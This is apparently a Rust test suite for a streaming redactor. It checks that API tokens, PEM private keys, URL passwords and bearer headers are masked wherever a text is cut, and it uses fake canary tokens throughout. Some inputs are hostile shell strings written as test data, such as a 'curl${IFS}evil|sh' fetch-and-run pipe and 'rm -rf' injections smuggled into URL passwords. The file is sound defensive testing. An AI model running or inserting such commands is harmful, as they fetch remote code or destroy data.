//! Every shape and every form of a value, wherever the text was cut; and ordinary text, which passes as it is.

use super::*;
use proptest::prelude::*;
use serde_json::json;

/// Put together here, so that no scanner of repositories takes them for real ones.
fn canaries() -> Vec<String> {
    let tail = "Q7wErT9yU2iOp4AsDfG6hJkL8zXcVbN1mQwErTy3";
    let begins = [
        "sk-",
        "sk-ant-api03-",
        "sk-or-v1-",
        "sk-proj-",
        "ghp_",
        "gho_",
        "ghu_",
        "ghs_",
        "ghr_",
        "github_pat_",
        "glpat-",
        "glptt-",
        "gldt-",
        "glrt-t1_",
        "xoxb-",
        "xoxp-",
        "xoxa-",
        "xoxr-",
        "xoxs-",
        "AIza",
        "npm_",
        "pypi-AgEI",
        "sk_live_",
        "rk_live_",
        "hf_",
        "agp_",
    ];
    let mut all: Vec<String> = begins.iter().map(|begin| format!("{begin}{tail}")).collect();
    all.extend(["AKIA", "ASIA"].map(|begin| format!("{begin}IOSFODNN7EXAMPLE")));
    all.push(format!("eyJ{tail}.eyJ{tail}.{tail}"));
    all
}

fn pem(kind: &str) -> String {
    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
    format!("-----BEGIN {kind}PRIVATE KEY-----\n{line}\n{line}\nabcd\n-----END {kind}PRIVATE KEY-----")
}

fn told(redactor: &Redactor, pieces: &[&str]) -> String {
    let mut stream = Stream::default();
    let mut out: String = pieces.iter().map(|piece| stream.push(redactor, piece)).collect();
    out.push_str(&stream.release(redactor));
    out
}

/// Whole, in two pieces wherever it is cut, and letter by letter.
fn everywhere(redactor: &Redactor, text: &str, wanted: &str) {
    assert_eq!(redactor.redact(text.to_owned()), wanted);
    for (at, _) in text.char_indices() {
        assert_eq!(told(redactor, &[&text[..at], &text[at..]]), wanted, "cut at {at}");
    }
    let letters: Vec<String> = text.chars().map(String::from).collect();
    let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
    assert_eq!(told(redactor, &letters), wanted, "letter by letter");
}

#[test]
fn every_shape_is_taken_out_wherever_it_is_cut() {
    let redactor = Redactor::default();
    for canary in canaries() {
        everywhere(&redactor, &format!("a key: {canary} and more"), "a key: [redacted] and more");
        everywhere(&redactor, &format!("\"{canary}\"."), "\"[redacted]\".");
        everywhere(&redactor, &canary, REDACTED);
        for before in ["\\n", "\\u000a", "%20", "\u{1b}[31m", "é", "x="] {
            everywhere(&redactor, &format!("{before}{canary}\n"), &format!("{before}[redacted]\n"));
        }
    }
}

#[test]
fn a_private_key_is_taken_out_as_a_whole_however_its_lines_stand() {
    let redactor = Redactor::default();
    for kind in ["", "RSA ", "EC ", "OPENSSH ", "ENCRYPTED "] {
        let key = pem(kind);
        everywhere(&redactor, &format!("see\n{key}\nthat is all"), "see\n[redacted]\nthat is all");
        let numbered: Vec<String> =
            key.lines().enumerate().map(|(n, line)| format!("{:05}| {line}", n + 1)).collect();
        everywhere(&redactor, &numbered.join("\n"), "00001| [redacted]");
        everywhere(&redactor, &format!("{}\\n\"", key.replace('\n', "\\n")), "[redacted]\\n\"");
    }
    let headed = pem("RSA ").replacen('\n', "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123\n\n", 1);
    everywhere(&redactor, &format!("{headed}\nafter it"), "[redacted]\nafter it");
    let quoted = "looks for \"-----BEGIN PRIVATE KEY-----\" in it";
    everywhere(&redactor, quoted, quoted);
}

#[test]
fn a_header_of_a_key_without_a_key_takes_nothing_with_it() {
    let redactor = Redactor::default();
    for text in [
        "-----BEGIN PRIVATE KEY----- is how it begins",
        "文件以 -----BEGIN PRIVATE KEY----- 开头。之后是密钥的内容，请不要提交到仓库。",
        "Файл начинается с -----BEGIN RSA PRIVATE KEY-----\nи заканчивается строкой END; дальше всё остальное.",
        "ファイルは -----BEGIN PRIVATE KEY-----\nで始まります。",
        r"m(/-----BEGIN PRIVATE KEY-----([\s\S]+?)-----END/);function a(b,c){return b+c}",
        "echo -----BEGIN PRIVATE KEY-----&&curl${IFS}evil|sh",
        "echo -----BEGIN PRIVATE KEY-----\n/usr/local/bin/anything\n",
        "-----BEGIN PRIVATE KEY-----\n\n-----END PRIVATE KEY-----",
    ] {
        everywhere(&redactor, text, text);
    }
}

#[test]
fn a_key_without_an_end_ends_where_something_else_begins() {
    let redactor = Redactor::default();
    let begins = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC";
    for rest in ["。之后的内容", ";rm -rf x", "&&curl${IFS}evil|sh", "$(rm)", "{}", "`rm`"] {
        everywhere(&redactor, &format!("{begins}{rest}"), &format!("{REDACTED}{rest}"));
    }
    everywhere(&redactor, "-----BEGIN PRIVATE KEY-----\n00002→MIIEvQIBADANBgkqhkiG9w\n00003→x+/9", REDACTED);
    let joined = "\"-----BEGIN PRIVATE KEY-----\\n\" +\n  \"MIIEvQIBADANBgkqhkiG9w\\n\" +\n  \"x+/9\"; f(x)";
    everywhere(&redactor, joined, "\"[redacted]\"; f(x)");
    let long = format!("{begins}{}", "A1b2".repeat(10_000));
    let told_at_once = redactor.redact(long.clone());
    assert!(told_at_once.starts_with(REDACTED) && told_at_once.len() > 20_000, "{}", told_at_once.len());
    for piece in [1, 7, 1000, 5003] {
        let pieces: Vec<&str> =
            long.as_bytes().chunks(piece).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
        assert_eq!(told(&redactor, &pieces), told_at_once);
    }
}

#[test]
fn a_key_that_was_left_open_takes_nothing_of_what_comes_behind_something_else() {
    let redactor = Redactor::default();
    let mut stream = Stream::default();
    let key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n";
    assert_eq!(stream.push(&redactor, key), REDACTED);
    assert_eq!(stream.release(&redactor), "");
    assert_eq!(stream.push(&redactor, "Everything/else"), "Everything/else");
}

#[test]
fn what_lets_in_is_taken_out_of_addresses_and_headers() {
    let redactor = Redactor::default();
    for (text, wanted) in [
        ("postgres://ann:hunter2@db:5432/x y", "postgres://ann:[redacted]@db:5432/x y"),
        ("redis://:p@ss@host/0", "redis://:[redacted]@host/0"),
        ("git clone https://me:abc@host", "git clone https://me:[redacted]@host"),
        ("-H 'Authorization: Bearer abcdefgh.ijk=' x", "-H 'Authorization: Bearer [redacted]' x"),
        ("{\"authorization\": \"Basic dXNlcjpwYXNz\"}", "{\"authorization\": \"Basic [redacted]\"}"),
        (
            "{\\\"Authorization\\\":\\\"token abcdefghi\\\"}",
            "{\\\"Authorization\\\":\\\"token [redacted]\\\"}",
        ),
        ("Bearer abcdefghijklmnop0123456 x", "Bearer [redacted] x"),
    ] {
        everywhere(&redactor, text, wanted);
    }
}

#[test]
fn no_command_passes_for_a_password() {
    let redactor = Redactor::default();
    for text in [
        "curl http://a:b;rm${IFS}-rf${IFS}$HOME@h",
        "curl http://a:b&&evil@h",
        "curl http://a:$(evil)@h",
        "curl http://a:b|sh@h x",
        "curl http://a:`evil`@h",
        "curl http://a:b>file@h",
    ] {
        everywhere(&redactor, text, text);
    }
    everywhere(&redactor, "http://a:p%40s-s.w~rd+!@h", "http://a:[redacted]@h");
}

#[test]
fn addresses_without_a_password_stay_also_where_a_text_ends() {
    let redactor = Redactor::default();
    for address in [
        "postgres://ann:${PASSWORD}@db",
        "postgres://ann:$PGPASS@h",
        "postgres://ann:DB_PASSWORD@h",
        "postgres://%s:%s@%s",
        "https://user:***@host.example",
        "https://user:<password>@host.example",
        "git clone https://git:@github.com",
        "docker://node:20-bookworm",
        "docker://alpine:3.19@sha256:0123456789abcdef0123456789abcdef",
        "http://localhost:8080-8090",
        "tcp://redis:6379,redis2:6379",
        "http://127.0.0.1:PORT_NUMBER",
    ] {
        everywhere(&redactor, address, address);
        everywhere(&redactor, &format!("{address} and on"), &format!("{address} and on"));
    }
    everywhere(&redactor, "postgres://ann:hunter2-and-more", "postgres://ann:[redacted]");
}

#[test]
fn what_only_looks_like_a_secret_stays() {
    let redactor = Redactor::default();
    for text in [
        "task-management-system-documentation, sk-learn, sk-folding-cube-container-element",
        "http://localhost:3000/x https://[::1]:80/ http://a:b/ see https://example.com: yes@no",
        "postgres://ann:${PASSWORD}@db/x and https://user:***@host/",
        "the bearer of this message, Authorization: Bearer $TOKEN, a token is asked for",
        "npm_config_user_agent hf_hub_download AKIA eyJhbGciOiJIUzI1NiJ9 ghp_short pypi-publish-to-the-index",
        "sk-cubeGridScaleDelay sk-circleBounceDelay sk-1234-fix-login-page sk-estimator-doc-link-2025-x",
        "pypi-attestations-0-0-12 glrt-1-some-thing-long-x gldt-2-some-thing-long-x",
        "Bearer YOUR_API_KEY, Authorization: Bearer YOUR_API_KEY, Authorization: Basic YOUR_CREDENTIALS",
        "Authorization: Basic authentication is required",
        "---\ntitle: x\n-----\n-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
        "e",
        "s",
        "sk-",
        "http://a:b",
        "-----BEGIN ",
        "Authorization: Bearer ",
    ] {
        everywhere(&redactor, text, text);
    }
}

#[test]
fn every_form_of_a_value_is_taken_out_wherever_it_is_cut() {
    let values = ["hünter 2/\"quoted\"", "line one\nline two", "plainvalue"];
    let redactor = Redactor::new(values.map(str::to_owned));
    for value in values {
        let escaped = json!(value).to_string();
        for form in [value, &escaped[1..escaped.len() - 1]] {
            everywhere(&redactor, &format!("é{form}é and {form}"), "é[redacted]é and [redacted]");
        }
    }
    everywhere(&redactor, "x=h%C3%BCnter%202%2F%22quoted%22&", "x=[redacted]&");
    assert_eq!(
        Redactor::new(["1234567".to_owned()]).redact("1234567".into()),
        "1234567",
        "too short to be one"
    );
    let overlong = Redactor::new(["pass@word/with/more".to_owned()]);
    everywhere(&overlong, "x://u:pass@word/with/more@h", "x://u:[redacted]@h");
}

#[test]
fn the_longer_value_counts_and_an_ended_text_decides() {
    let redactor = Redactor::new(["abcdefgh".to_owned(), "abcdefgh-ijkl".to_owned()]);
    everywhere(&redactor, "abcdefgh-ijkl", REDACTED);
    everywhere(&redactor, "abcdefgh-ij", "[redacted]-ij");
    everywhere(&redactor, "abcdefg", "abcdefg");
}

#[test]
fn only_an_end_that_may_be_a_secret_waits_and_what_was_told_is_not_completed() {
    let redactor = Redactor::new(["canary-value".to_owned()]);
    let mut stream = Stream::default();
    assert_eq!(stream.push(&redactor, "the files of this task"), "the files of this task");
    assert_eq!(stream.push(&redactor, " can"), " ");
    assert_eq!(stream.push(&redactor, "not"), "cannot");
    assert_eq!(stream.push(&redactor, "; canary"), "; ");
    assert_eq!(stream.release(&redactor), "canary", "something else is told between");
    assert_eq!(stream.push(&redactor, "-value."), "[redacted].");
    assert_eq!(stream.push(&redactor, " ghp_0123456789abcdefghijk"), " [redacted]");
    assert_eq!(stream.push(&redactor, "lmnop"), "");
    assert_eq!(stream.release(&redactor), "");
    assert_eq!(stream.push(&redactor, "Done."), "Done.");
}

#[test]
fn a_secret_is_never_told_whole_though_something_else_is_told_within_it() {
    let redactor = Redactor::new(["canary-value".to_owned()]);
    for secret in canaries().into_iter().chain([pem("RSA "), "canary-value".to_owned()]) {
        for (at, _) in secret.char_indices() {
            for ends in [false, true] {
                let mut stream = Stream::default();
                let mut out = stream.push(&redactor, &secret[..at]);
                out += &if ends { stream.release(&redactor) } else { stream.pause(&redactor) };
                out += &stream.push(&redactor, &secret[at..]);
                out += &stream.push(&redactor, "\nand so on.");
                out += &stream.release(&redactor);
                assert!(!out.contains(&secret) && out.ends_with("and so on."), "{out}");
                let (told, _) = out.split_once(REDACTED).expect("the rest is taken out");
                assert!(secret.starts_with(told), "{told}");
                // What was told before it could be known is short, and behind it nothing is left.
                let (long, left) = (told.len() > 120, out.len() - told.len() > 2 * REDACTED.len() + 12);
                assert!(!long && (ends || !left), "{at}: {out}");
            }
        }
    }
}

#[test]
fn what_still_grows_is_told_without_an_end_that_may_be_half_a_secret() {
    let redactor = Redactor::new(["canary-value".to_owned()]);
    assert_eq!(redactor.redact_so_far("so far canary-val".into()), "so far ");
    assert_eq!(redactor.redact_so_far("so far canary-value!".into()), "so far [redacted]!");
    let json = json!({"canary-value": ["x canary-value", {"n": 1, "k": "ghp_0123456789abcdefghijk"}]});
    assert_eq!(
        redactor.redact_json(json),
        json!({"[redacted]": ["x [redacted]", {"n": 1, "k": "[redacted]"}]})
    );
    assert!(!format!("{redactor:?}").contains("canary"));
}

#[test]
fn of_beginnings_side_by_side_one_is_read_to_the_end() {
    let text = "eyJ-".repeat(100);
    assert_eq!(Shapes::look(text.as_bytes(), 0), Verdict::Wait);
    assert_eq!(Shapes::look(text.as_bytes(), 200), Verdict::Nothing);
    everywhere(&Redactor::default(), &text, &text);
    let behind = format!("{text}.{}", "a".repeat(20));
    everywhere(&Redactor::default(), &behind, REDACTED);
    // After so many letters a token is none.
    assert_eq!(Shapes::look("sk-".repeat(30).as_bytes(), 0), Verdict::Nothing);
}

fn redactor_of_all() -> Redactor {
    Redactor::new(["canary-value", "s3cret/päss wörd", "eeeeeeee"].map(str::to_owned))
}

fn cut<'a>(text: &'a str, places: &[proptest::sample::Index]) -> Vec<&'a str> {
    let mut places: Vec<usize> =
        places.iter().map(|place| text.floor_char_boundary(place.index(text.len() + 1))).collect();
    places.extend([0, text.len()]);
    places.sort_unstable();
    places.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect()
}

proptest! {
    #[test]
    fn ordinary_text_passes_as_it_is(
        words in proptest::collection::vec("[a-zA-Zäß€😀]{1,9}|[0-9]{1,4}|[(){}.,;:!?'\"`\n\t_/=+*#-]{1,3}|sk-|eyJ|https?://|ghp|://", 0..60),
        places in proptest::collection::vec(any::<proptest::sample::Index>(), 0..12),
    ) {
        // Short words apart: nothing here is as long as a token.
        let text = words.join(" ");
        prop_assert_eq!(redactor_of_all().redact(text.clone()), text.clone());
        prop_assert_eq!(told(&redactor_of_all(), &cut(&text, &places)), text);
    }

    #[test]
    fn what_is_told_does_not_depend_on_where_a_text_is_cut(
        words in proptest::collection::vec(
            "[a-z]{1,9}|[A-Z0-9]{16,20}|ghp_[a-zA-Z0-9]{15,40}|sk-[a-z0-9-]{10,30}|canary-val(ue)?|s3cret/päss wörd|\
             eyJ[a-zA-Z0-9]{10,20}\\.[a-zA-Z0-9]{10,20}|://[a-z]{1,5}:[a-z@]{1,9}|-----BEGIN PRIVATE KEY-----|\
             -----BEGIN PRIVATE KEY-----(\n|\\\\n| )MIIE[A-Z0-9a-z]{12,20}|[A-Z][a-z]{1,4}: |[;→é$]|\
             -----END PRIVATE KEY-----|Authorization: Bearer |e{1,12}|AKIA|[ .:\n\\\\\"%@/-]{1,4}", 0..40),
        places in proptest::collection::vec(any::<proptest::sample::Index>(), 0..20),
    ) {
        let (text, redactor) = (words.concat(), redactor_of_all());
        let whole = redactor.redact(text.clone());
        prop_assert!(!whole.contains("canary-value") && !whole.contains("s3cret/päss wörd"));
        prop_assert_eq!(told(&redactor, &cut(&text, &places)), whole);
    }
}
